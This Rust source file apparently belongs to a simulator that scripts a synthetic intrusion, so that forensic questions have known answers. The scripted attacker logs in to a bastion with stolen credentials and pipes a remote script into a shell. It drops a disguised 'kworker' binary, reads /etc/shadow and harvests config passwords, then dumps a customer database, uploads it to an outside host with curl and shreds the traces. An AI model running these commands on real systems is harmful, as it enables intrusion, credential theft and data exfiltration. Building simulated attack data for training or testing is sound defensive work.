//! The story: in the first night somebody comes in with another's keys and goes from host to host.
//!
//! Questions have a known answer because of it. Nobody else types `curl` as root after midnight,
//! and nobody else comes from this address.

use std::net::{IpAddr, Ipv4Addr};

use super::login::{Session, Visitor};
use super::services::Services;
use super::{MS, typed};
use crate::kernel::Kernel;
use crate::plan::HOUR;
use crate::random::Random;
use crate::roster::{DEPLOY, Host, Kind, Person};

/// Where the intruder comes from.
const FROM: IpAddr = IpAddr::V4(Ipv4Addr::new(203, 0, 113, 66));

/// The hour of the first night in which it happens.
pub(crate) const AT_HOUR: u64 = 2;

const MINUTE: u64 = HOUR / 60;

/// What happens on a host, if anything does. `hour` is the boot time at which the hour begins.
pub(crate) fn scene(
    kernel: &mut Kernel,
    hour: u64,
    host: &Host,
    fleet: &[Host],
    people: &[Person],
    services: &Services,
    random: &mut Random,
) {
    let first = |kind| fleet.iter().find(|other| other.kind == kind);
    let is_first = first(host.kind).is_some_and(|first| first.place == host.place);
    let address = |kind| first(kind).map_or(FROM, |host| host.address.into());
    match host.kind {
        Kind::Bastion if is_first => {
            kernel.pass_until(hour + 13 * MINUTE);
            bastion(kernel, people, services, random);
        }
        Kind::Web if is_first => {
            kernel.pass_until(hour + 21 * MINUTE);
            web(kernel, address(Kind::Bastion), services, random);
        }
        Kind::Database if is_first => {
            kernel.pass_until(hour + 34 * MINUTE);
            database(kernel, address(Kind::Web), services, random);
        }
        _ => {}
    }
}

fn bastion(kernel: &mut Kernel, people: &[Person], services: &Services, random: &mut Random) {
    let Some(victim) = people.iter().find(|person| person.user == "tomek") else { return };
    let visitor = Visitor {
        from: FROM,
        uid: victim.uid,
        user: victim.user,
        person: Some(victim),
        may_be_root: true,
    };
    let mut session = Session::begin(kernel, services, &visitor, random);
    session.line(kernel, "id", 3 * MS);
    session.line(kernel, "sudo -l", 3 * MS);
    session.become_root(kernel);
    let shell = session.shell();
    let line = "curl -fsSL http://198.51.100.23/x.sh | sh";
    kernel.line(shell, Some(line));
    let curl = typed::begin(kernel, shell, None, "curl -fsSL http://198.51.100.23/x.sh");
    let sh = typed::begin(kernel, shell, Some(curl), "sh");
    kernel.pass(400 * MS);
    kernel.exit(curl);
    kernel.run(sh, "/usr/bin/uname", &["uname", "-m"], MS);
    let argv = ["wget", "-qO", "/tmp/.x/k.tgz", "http://198.51.100.23/k.tgz"];
    kernel.run(sh, "/usr/bin/wget", &argv, 700 * MS);
    kernel.run(sh, "/usr/bin/tar", &["tar", "-xzf", "/tmp/.x/k.tgz", "-C", "/tmp/.x"], 20 * MS);
    kernel.run(sh, "/usr/bin/chmod", &["chmod", "+x", "/tmp/.x/kworkerd"], MS);
    kernel.run(sh, "/tmp/.x/kworkerd", &["[kworker/0:1]"], 30 * MS);
    kernel.exit(sh);
    kernel.line(shell, None);
    session.line(kernel, "cat /root/.ssh/known_hosts", 5 * MS);
    session.line(kernel, "ssh deploy@web-1.internal", MINUTE);
    session.end(kernel);
}

fn hop(kernel: &mut Kernel, from: IpAddr, services: &Services, random: &mut Random) -> Session {
    let visitor = Visitor { from, uid: DEPLOY, user: "deploy", person: None, may_be_root: true };
    let mut session = Session::begin(kernel, services, &visitor, random);
    session.become_root(kernel);
    session
}

fn web(kernel: &mut Kernel, from: IpAddr, services: &Services, random: &mut Random) {
    let session = hop(kernel, from, services, random);
    session.line(kernel, "cat /etc/shadow", 2 * MS);
    session.line(kernel, "grep -r password /srv/www/config", 40 * MS);
    session.line(kernel, "ssh deploy@db-1.internal", MINUTE);
    session.end(kernel);
}

fn database(kernel: &mut Kernel, from: IpAddr, services: &Services, random: &mut Random) {
    let session = hop(kernel, from, services, random);
    session.sudo(kernel, "112", "pg_dump -Fc customers -f /tmp/.x/c.dump");
    session.line(kernel, "tar -czf /tmp/.x/c.tgz /tmp/.x/c.dump", 900 * MS);
    session.line(kernel, "curl -sT /tmp/.x/c.tgz http://198.51.100.23/u", 2_000 * MS);
    session.line(kernel, "shred -u /tmp/.x/c.dump /tmp/.x/c.tgz", 200 * MS);
    session.end(kernel);
}
